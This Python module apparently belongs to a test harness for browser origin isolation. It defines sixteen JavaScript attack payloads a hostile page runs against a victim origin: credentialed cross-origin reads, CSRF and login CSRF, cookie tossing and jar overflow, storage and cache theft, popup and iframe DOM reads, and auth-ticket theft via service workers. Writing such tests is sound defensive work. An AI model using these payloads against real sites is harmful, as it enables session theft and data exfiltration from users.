"""What a hostile page tries: sixteen actions as scripts, each a function of where things are that gives what it learnt.

`t` has: control, victim, own (origins), reads and posts (URLs, the latter with bodies), login (a link that logs in as
somebody else), start (the beginning of a way to a ticket, made for another browser).
"""

from __future__ import annotations

from typing import Final

SAYS: Final = "learnt: "
"""What a script learns it says on the console, too: a page that goes away meanwhile gives nothing back."""
_LOOT: Final = """async t => {
  const loot = [], say = text => { loot.push(String(text)); console.log('learnt: ' + text) };
  const rest = ms => new Promise(done => setTimeout(done, ms));
  const trying = async body => { try { await body() } catch (error) {} };
  const within = (ms, body) => trying(() => Promise.race([body(), rest(ms)]));
  const framed = async (url, ms) => { const frame = document.createElement('iframe'); frame.src = url;
    document.body.append(frame); await rest(ms); return frame };
  BODY
  return loot
}"""

_BODIES: Final = {
    "read": """for (const url of t.reads) for (const how of [{credentials: 'include'}, {}, {mode: 'no-cors',
      credentials: 'include'}]) await within(2000, async () => say(await (await fetch(url, how)).text()));
      for (const url of t.reads) await within(1000, () => new Promise(done => { const ask = new XMLHttpRequest();
        ask.withCredentials = true; ask.open('GET', url); ask.onloadend = () => { say(ask.responseText); done() };
        ask.send() }));""",
    "post": """for (const [method, url, body] of t.posts) for (const how of [{headers: {'Content-Type':
      'application/json'}}, {mode: 'no-cors', headers: {'Content-Type': 'text/plain'}}, {mode: 'no-cors'}])
        await within(2000, () => fetch(url, {method, body, credentials: 'include', ...how}));
      for (const [, url, body] of t.posts) navigator.sendBeacon(url, body || '');""",
    "socket": """const heard = what => new Promise(done => { what.onmessage = event => { say(event.data); done() };
        what.onerror = done });
      await within(2000, () => heard(new WebSocket(t.victim.replace('http', 'ws') + '/socket')));
      await within(1500, () => heard(new EventSource(t.victim + '/events', {withCredentials: true})));
      await within(1500, () => new Promise(done => { const list = new EventSource(t.control + '/sse/servers',
        {withCredentials: true}); list.addEventListener('server', event => { say(event.data); done() });
        list.onerror = done }));""",
    "frame": """for (const url of [t.control + '/', t.victim + '/']) await trying(async () => {
        const frame = await framed(url, 1500); say(frame.contentDocument.documentElement.innerText) });""",
    "worker": """for (const url of [t.victim + '/secret.js', t.control + '/secret.js']) {
        await within(1500, () => new Promise(done => { const code = `try { importScripts('${url}') } catch (error) {};
          postMessage(self.loot || '')`; const worker = new Worker(URL.createObjectURL(new Blob([code])));
          worker.onmessage = event => { say(event.data); done() }; worker.onerror = done }));
        await within(1500, () => new Promise(done => { const worker = new Worker(url); worker.onmessage = event => {
          say(event.data); done() }; worker.onerror = done }));
        await within(1500, () => new Promise(done => { const script = document.createElement('script');
          script.src = url; script.onload = script.onerror = done; document.head.append(script) }));
        say(window.loot || '') }
      await within(1500, () => navigator.serviceWorker.register(t.victim + '/secret.js'));""",
    "storage": """await trying(() => { document.domain = t.victim.split('.').slice(1).join('.').split(':')[0] });
      const kept = await framed(t.victim + '/', 1500); await trying(() => say(kept.contentWindow.localStorage.secret));
      await trying(() => say(localStorage.secret)); await within(1000, async () => { for (const one of
        await indexedDB.databases()) say(one.name) });""",
    "cookie toss": """const parent = t.victim.replace(/^http:..[^.]*[.]/, '').split(':')[0];
      for (const domain of [parent, '.' + parent, '']) for (const path of ['/', '/who', '/api/me', '/api'])
        for (const name of ['sid', ...t.names]) await trying(() => { document.cookie = `${name}=tossed; Path=${path}` +
          (domain ? `; Domain=${domain}` : '') + '; Secure; Max-Age=600' });""",
    "jar overflow": """const above = t.victim.replace(/^http:..[^.]*[.]/, '').split(':')[0];
      for (let n = 0; n < 300; n++) await trying(() => { document.cookie = `o${n}=${'x'.repeat(1500)}; Path=/; ` +
        `Domain=${above}; Secure; Max-Age=600` });""",
    "Clear-Site-Data": """await within(2000, async () => say((await fetch('/clear')).status));
      await framed(t.own + '/clear', 1500);
      await trying(async () => { const opened = window.open(t.own + '/clear'); await rest(1500); opened.close() });""",
    "login CSRF": """await within(1500, () => new Promise(done => { const image = new Image(); image.onload =
        image.onerror = done; image.src = t.login }));
      await within(1500, () => fetch(t.login, {mode: 'no-cors', credentials: 'include'}));
      await framed(t.login, 1500);
      await trying(async () => { const form = document.createElement('form'); form.action = t.control + '/login';
        form.target = '_blank'; for (const [name, value] of new URL(t.login).searchParams) {
          const field = document.createElement('input'); field.name = name; field.value = value; form.append(field) }
        document.body.append(form); form.submit(); await rest(1500) });
      await trying(async () => { window.open(t.login); await rest(1500) });""",
    "ticket theft": """await within(2500, async () => { await navigator.serviceWorker.register('/sw.js');
        await rest(800) });
      await within(1500, async () => say((await fetch(t.start, {credentials: 'include'})).url));
      await trying(async () => { const frame = await framed(t.start, 1500); say(frame.contentWindow.location.href) });
      await trying(async () => { const opened = window.open(t.start); for (let n = 0; n < 20; n++) { await rest(100);
        await trying(() => say(opened.location.href)) } });""",
    "popup": """for (const url of [t.control + '/', t.victim + '/']) await trying(async () => { const opened =
        window.open(url); await rest(1500); await trying(() => say(opened.location.href));
        await trying(() => say(opened.document.documentElement.innerText));
        await trying(() => say(opened.localStorage.secret)); opened.close() });
      await trying(() => say(window.opener.document.documentElement.innerText));
      await trying(() => say(window.parent.document.documentElement.innerText));""",
    "history": """for (const url of [t.control + '/', t.victim + '/', '/proxy/server/victim/'])
        { await trying(() => history.replaceState(null, '', url)); await trying(() => history.pushState(null, '', url));
          for (const path of ['secret', '/secret', '/api/me']) await within(1000, async () =>
            say(await (await fetch(path, {credentials: 'include'})).text())) }""",
    "cache": """for (const url of t.reads) { await within(2000, async () => { const cache = await caches.open('c');
        await cache.add(new Request(url, {mode: 'no-cors', credentials: 'include'}));
        say(await (await cache.match(url)).text()) });
        for (const cache of ['force-cache', 'only-if-cached']) await within(1000, async () => say(await (await
          fetch(url, {cache, mode: cache == 'only-if-cached' ? 'same-origin' : 'cors',
            credentials: 'include'})).text())) }""",
    "download": """for (const url of [t.victim + '/file', t.control + '/api/servers/victim/events']) {
        await within(2000, async () => { const file = await (await fetch(url, {credentials: 'include'})).blob();
          say(await file.text()) });
        await trying(async () => { const link = document.createElement('a'); link.href = url; link.download = 'f';
          link.target = '_blank'; document.body.append(link); link.click(); await rest(500) });
        await trying(async () => { const frame = await framed(url, 800);
          say(frame.contentDocument.body.innerText) }) }""",
    "form": """for (const [, url, body] of t.posts) for (const kind of ['application/x-www-form-urlencoded',
      'text/plain', 'multipart/form-data']) for (const target of ['_blank', 'inside']) await trying(async () => {
        const frame = document.createElement('iframe'); frame.name = 'inside'; document.body.append(frame);
        const form = document.createElement('form'); form.method = 'POST'; form.action = url; form.enctype = kind;
        form.target = target; const field = document.createElement('input'); field.name = (body || '{}').slice(0, -1) +
          ',"x":"'; field.value = '"}'; form.append(field); document.body.append(form); form.submit();
        await rest(250) });""",
}  # fmt: skip

ACTIONS: Final = {name: _LOOT.replace("BODY", body) for name, body in _BODIES.items()}
FRESH: Final = frozenset({"cookie toss", "jar overflow", "Clear-Site-Data", "login CSRF", "ticket theft"})
"""Those after which a browser is not what it was: each has one of its own."""
